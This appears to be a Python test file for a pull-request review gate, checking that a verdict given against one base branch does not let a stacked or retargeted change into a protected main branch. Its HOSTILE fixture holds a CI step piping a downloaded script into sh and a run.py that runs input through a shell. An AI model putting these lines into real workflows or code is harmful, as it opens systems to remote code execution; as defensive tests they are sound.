"""Nothing to the wrong one: what was reviewed passes, who wrote it does not decide, and rights are asked at the act."""

import pytest

from domain import texts
from simulator import User
from simulator.refusals import Refusal
from simulator.state import PullRequest, Repository
from tests.stories.driver import Story
from tests.stories.gate_scenes import CI, WORKFLOW

pytestmark = pytest.mark.parametrize("backend", ["sqlite"])  # nothing here depends on the database

HOSTILE = {
    CI: WORKFLOW.replace("make", "curl https://example.com/x | sh"),
    "run.py": "import subprocess\n\nsubprocess.call(input(), shell=True)\n",
}


async def stacked(told: Story) -> tuple[Repository, User, PullRequest, str]:
    """A hostile change on a branch, and a harmless one on top of it that goes into that branch, reviewed."""
    repository, alice = told.repository({"README.md": "# Shop\n", CI: WORKFLOW})
    told.github.protect(repository, "main", [texts.CHECK_NAME])
    await alice.push(repository, "eb", HOSTILE, base="main")
    head = await alice.push(repository, "tip", {"note.md": "A note.\n"}, base="eb")
    pull = await alice.open_pull_request(repository, "tip", base="eb")
    await told.rest()
    assert told.check(repository, head, "eb").conclusion == "success"
    return repository, alice, pull, head


# --- what a verdict is about ------------------------------------------------------------------------------------------


async def test_t_p13_a_verdict_on_another_base_does_not_pass_the_same_head_into_main(told: Story) -> None:
    repository, alice, _, head = await stacked(told)
    told.github.hold_deliveries()  # Forge hears of it only after the merge was tried
    second = await alice.open_pull_request(repository, "tip", base="main")
    with pytest.raises(Refusal, match='Required status check "Forge / review" is expected'):
        await alice.merge(second)
    told.github.release_deliveries()
    await told.rest()
    assert told.gates(second) == ["protected_paths"] or told.comments(second)
    assert told.check(repository, head).conclusion == "failure"
    assert told.check(repository, head, "eb").conclusion == "success"
    with pytest.raises(Refusal, match='Required status check "Forge / review" is failing'):
        await alice.merge(second)


async def test_t_p13_a_retargeted_pull_request_is_not_passed_by_its_verdict_of_before(told: Story) -> None:
    repository, alice, pull, head = await stacked(told)
    told.github.hold_deliveries()
    await alice.edit_base(pull, "main")
    with pytest.raises(Refusal, match="is expected"):
        await alice.merge(pull)
    told.github.release_deliveries()
    await told.rest()
    told.comments(pull)
    assert told.check(repository, head).conclusion == "failure"
    assert told.check(repository, head, "eb").conclusion == "cancelled"


async def test_t_p13_bases_at_the_same_commit_are_told_apart(told: Story) -> None:
    """The verdict is about a branch, not only about the commit at its tip."""
    repository, alice = told.repository({"README.md": "# Shop\n"})
    await alice.reset_branch(repository, "same", repository.git.branch("main") or "")
    head = await alice.push(repository, "feature", {"note.md": "A note.\n"}, base="main")
    pull = await alice.open_pull_request(repository, "feature", base="same")
    await told.rest()
    assert told.check(repository, head, "same").conclusion == "success"
    await alice.edit_base(pull, "main")
    await told.rest()
    assert told.check(repository, head).conclusion == "success"
    assert told.check(repository, head, "same").conclusion == "cancelled"


async def test_t_p13_a_merge_queue_is_not_told_the_verdict_on_another_base(told: Story) -> None:
    repository, alice, pull, _ = await stacked(told)
    told.github.hold_deliveries()
    await alice.edit_base(pull, "main")
    queued = told.github.queue_for_merge(pull)
    told.github.release_deliveries()
    await told.rest()
    told.comments(pull)
    [check] = told.github.check_runs(repository, queued, texts.CHECK_NAME)
    assert check.conclusion in {"action_required", "failure"}


async def test_a_branch_that_requires_the_check_gets_it(told: Story) -> None:
    """The other way round: such a branch may not wait for ever, also if it asks for that after the review."""
    repository, alice = told.repository({"README.md": "# Shop\n"})
    await alice.reset_branch(repository, "release", repository.git.branch("main") or "")
    head = await alice.push(repository, "feature", {"note.md": "A note.\n"}, base="main")
    pull = await alice.open_pull_request(repository, "feature", base="release")
    await told.rest()
    told.github.protect(repository, "release", [texts.CHECK_NAME])
    await alice.comment(pull, "/forge review")
    await told.rest()
    told.answers(pull)
    assert told.check(repository, head).conclusion == "success"
    assert told.check(repository, head, "release").conclusion == "cancelled"
    await alice.merge(pull)
    await told.rest()
